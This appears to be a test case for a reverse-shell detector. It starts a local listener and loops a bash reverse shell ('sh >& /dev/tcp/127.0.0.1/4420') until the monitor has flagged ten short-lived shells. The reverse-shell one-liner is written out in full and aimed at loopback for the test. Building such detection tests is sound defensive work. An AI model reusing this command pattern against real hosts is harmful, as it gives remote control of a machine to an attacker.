# R20: ten shells, each for a tenth of a second
# stage: behaviour
# expect: reverse_shell_detected at least 10 distinct reverse_shell.process_list.0.process_id
#   detection.reason: ~outbound
#
# A slow watcher misses some of such shells: there are more until it has found ten.

#: prepare
. lib/peers.sh
python3 -c '
import socket, time
server = socket.create_server(("", 4420))
while True:
    connection, _ = server.accept()
    connection.sendall(b"sleep 0.1; exit\n")' > /dev/null 2>&1 &
kept $!
await 'grep -q :1144.*:0000.0A /proc/net/tcp'
#: act
. lib/peers.sh
act
until come || ((SECONDS > 60)); do
  bash -c "sh >& /dev/tcp/127.0.0.1/4420 0>&1" < /dev/null > /dev/null 2>&1
done
